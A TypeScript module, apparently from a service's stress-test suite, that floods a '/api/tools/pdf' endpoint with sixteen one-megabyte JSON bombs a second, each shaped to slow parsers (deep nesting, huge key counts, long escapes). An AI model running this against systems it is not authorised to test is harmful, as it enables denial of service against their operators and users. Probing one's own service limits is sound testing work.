import type { Attack } from './attack.ts'
import { sendOpenLoop } from './openLoop.ts'

const bytes = 1_000_000
const perSecond = 16

/** The largest body that is read, in shapes that parsers are slow at. */
const shapes: readonly string[] = [
  '['.repeat(bytes / 2) + ']'.repeat(bytes / 2),
  '{"a":'.repeat(bytes / 6) + '1' + '}'.repeat(bytes / 6),
  `{${Array.from({ length: bytes / 12 }, (_, n) => `"k${n}":${n % 10}`)
    .join(',')
    .slice(0, bytes - 20)},"end":0}`,
  `{${'"a":1,'.repeat(bytes / 6 - 2)}"a":1}`,
  `{"html":"${'x'.repeat(bytes - 20)}"}`,
  `{"html":"${'\\u0000'.repeat(bytes / 6 - 4)}"}`,
  `[${'1,'.repeat(bytes / 2 - 2)}1]`,
  `[${'"",'.repeat(bytes / 3 - 2)}""]`,
  `[${'9'.repeat(bytes - 2)}]`,
  `[${'{},'.repeat(bytes / 3 - 2)}{}]`,
]

export const jsonBombs: Attack = {
  name: `${perSecond} JSON bombs a second`,
  start: (target) =>
    sendOpenLoop(target, perSecond, (n) => ({
      method: 'POST',
      path: '/api/tools/pdf',
      headers: { 'x-wallet-address': target.wallet, 'content-type': 'application/json' },
      body: shapes[n % shapes.length] ?? '',
    })),
}
